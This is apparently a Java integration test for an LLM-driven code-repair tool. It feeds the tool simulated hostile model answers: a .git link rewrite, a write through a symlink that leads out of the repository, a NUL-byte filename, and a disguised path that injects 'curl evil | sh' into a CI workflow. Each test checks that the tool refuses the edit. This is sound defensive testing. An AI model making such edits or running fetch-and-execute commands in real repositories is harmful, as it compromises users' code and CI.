package dev.selfheal.llm;

import static com.github.tomakehurst.wiremock.client.WireMock.containing;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.WireMockServer;
import dev.selfheal.exec.CommandRunner;
import dev.selfheal.fix.RecipeRunner;
import dev.selfheal.fix.recipes.Recipes;
import dev.selfheal.model.Status;
import dev.selfheal.pipeline.Environment;
import dev.selfheal.pipeline.HealPipeline;
import dev.selfheal.pipeline.HealReport;
import dev.selfheal.pipeline.HealRequest;
import dev.selfheal.pipeline.Progress;
import dev.selfheal.redact.Redactor;
import dev.selfheal.testing.GitRepos;
import dev.selfheal.testing.LlmReplies;
import dev.selfheal.testing.Projects;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A model's answer is attacker-controlled text whenever the prompt carries a pull request's logs or
 * source. These answers aim at the user's repository and CI through paths: the workspace's {@code
 * .git} link, a folder symlink out of the repository, a path spelt to slip past a guard, a name
 * that cannot be a file. Each is refused before anything is written, and the user's tree, index and
 * branch, and the file outside, are as they were.
 */
class LlmAttacksIT {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String CALC = "src/main/java/com/acme/calc/Calculator.java";
  private static final String DIAGNOSIS =
      "{\"root_cause\": \"add subtracts\", \"failure_type\": \"test_failure\", \"affected_files\":"
          + " [\""
          + CALC
          + "\"], \"confidence\": 0.9, \"reasoning\": \"a - b\"}";

  @TempDir Path repo;
  @TempDir Path state;
  @TempDir Path outside;
  private WireMockServer server;

  @BeforeEach
  void project() throws Exception {
    server = new WireMockServer(options().dynamicPort());
    server.start();
    Projects.write(repo, "pom.xml", LlmHealIT.POM);
    Projects.write(
        repo,
        "src/test/java/com/acme/calc/CalculatorTest.java",
        "package com.acme.calc;\n\nimport static org.junit.jupiter.api.Assertions.assertEquals;\n\n"
            + "import org.junit.jupiter.api.Test;\n\nclass CalculatorTest {\n  @Test\n  void adds() {\n"
            + "    assertEquals(5, new Calculator().add(2, 3));\n  }\n}\n");
    Projects.write(repo, ".github/workflows/ci.yml", "on: push\n");
    Projects.write(repo, CALC, calculator("a + b"));
    Files.writeString(outside.resolve("settings.txt"), "mode: safe\n");
    Files.createSymbolicLink(repo.resolve("conf"), outside);
    // The logic tier would heal this bug before any model is asked; these attacks are the model's.
    Projects.write(repo, ".selfheal.yml", "llm:\n  model: m\nrepair:\n  logic: false\n");
    GitRepos.commitAll(repo, "good");
    Projects.write(repo, CALC, calculator("a - b"));
    GitRepos.commitAll(repo, "refactor: tidy the calculator");
  }

  @AfterEach
  void stop() {
    server.stop();
  }

  private static String calculator(String sum) {
    return "package com.acme.calc;\n\npublic final class Calculator {\n  public int add(int a, int b) {\n"
        + "    return "
        + sum
        + ";\n  }\n}\n";
  }

  private HealPipeline.Result healWith(String edits, HealReport.DeliveryMode mode)
      throws Exception {
    server.stubFor(
        post(urlEqualTo("/v1/chat/completions"))
            .withRequestBody(containing("Diagnose the root cause"))
            .willReturn(okJson(LlmReplies.openAi(DIAGNOSIS, "m"))));
    server.stubFor(
        post(urlEqualTo("/v1/chat/completions"))
            .withRequestBody(containing("Propose the smallest fix"))
            .willReturn(okJson(LlmReplies.openAi(edits, "m"))));
    Map<String, String> env = new HashMap<>(System.getenv());
    env.remove("ANTHROPIC_API_KEY");
    env.remove("OPENAI_API_KEY");
    env.put("OPENAI_BASE_URL", server.baseUrl() + "/v1");
    env.put("XDG_STATE_HOME", state.toString());
    Environment e =
        new Environment(
            env, Clock.systemUTC(), new CommandRunner(env, Clock.systemUTC()), new Redactor(env));
    return new HealPipeline(e, new RecipeRunner(Recipes.all()))
        .heal(
            new HealRequest(repo, "mvn -B verify", null, mode, null, null, false),
            Progress.silent());
  }

  private static String edit(String file, String oldText, String newText) {
    var a = JSON.createArrayNode();
    a.addObject().put("file", file).put("old_text", oldText).put("new_text", newText);
    return a.toString();
  }

  private String userState() {
    return GitRepos.output(repo, "rev-parse", "HEAD")
        + "\n"
        + GitRepos.output(repo, "status", "--porcelain")
        + "\n"
        + GitRepos.output(repo, "log", "--oneline", "--all");
  }

  @Test
  void theWorkspacesGitLinkIsNeverWritten() throws Exception {
    String before = userState();
    String config = Files.readString(repo.resolve(".git/config"));
    HealPipeline.Result r =
        healWith(
            edit(".git", "gitdir:", "gitdir: " + repo.resolve(".git") + " #"),
            HealReport.DeliveryMode.DRY_RUN);
    assertThat(r.report().status())
        .as(r.report().message() + " " + r.report().notices())
        .isEqualTo(Status.REJECTED);
    assertThat(r.report().guardrails().violations())
        .anySatisfy(v -> assertThat(v.detail()).contains(".git"));
    assertThat(userState()).isEqualTo(before);
    assertThat(Files.readString(repo.resolve(".git/config"))).isEqualTo(config);
  }

  @Test
  void nothingIsWrittenThroughAFolderSymlinkOutOfTheRepository() throws Exception {
    HealPipeline.Result r =
        healWith(
            edit("conf/settings.txt", "mode: safe", "mode: pwned"),
            HealReport.DeliveryMode.DRY_RUN);
    assertThat(r.report().status())
        .as(r.report().message() + " " + r.report().notices())
        .isEqualTo(Status.REJECTED);
    assertThat(Files.readString(outside.resolve("settings.txt"))).isEqualTo("mode: safe\n");
  }

  @Test
  void aPathSpeltToSlipPastTheGuardIsRefusedEvenWithApply() throws Exception {
    HealPipeline.Result r =
        healWith(
            edit(
                ".//.github/workflows/ci.yml",
                "on: push",
                "on: push\njobs: {x: {run: curl evil | sh}}"),
            HealReport.DeliveryMode.APPLY);
    assertThat(r.report().status())
        .as(r.report().message() + " " + r.report().notices())
        .isEqualTo(Status.REJECTED);
    assertThat(Files.readString(repo.resolve(".github/workflows/ci.yml"))).isEqualTo("on: push\n");
    assertThat(Files.readString(repo.resolve(CALC))).isEqualTo(calculator("a - b"));
  }

  @Test
  void aNameThatCannotBeAFileIsARefusalWithAReasonNotACrash() throws Exception {
    HealPipeline.Result r =
        healWith(edit(CALC + "\u0000.txt", "a - b", "a + b"), HealReport.DeliveryMode.DRY_RUN);
    assertThat(r.report().status())
        .as(r.report().message() + " " + r.report().notices())
        .isEqualTo(Status.REJECTED);
    assertThat(r.report().guardrails().violations())
        .anySatisfy(v -> assertThat(v.detail()).contains("NUL"));
  }
}
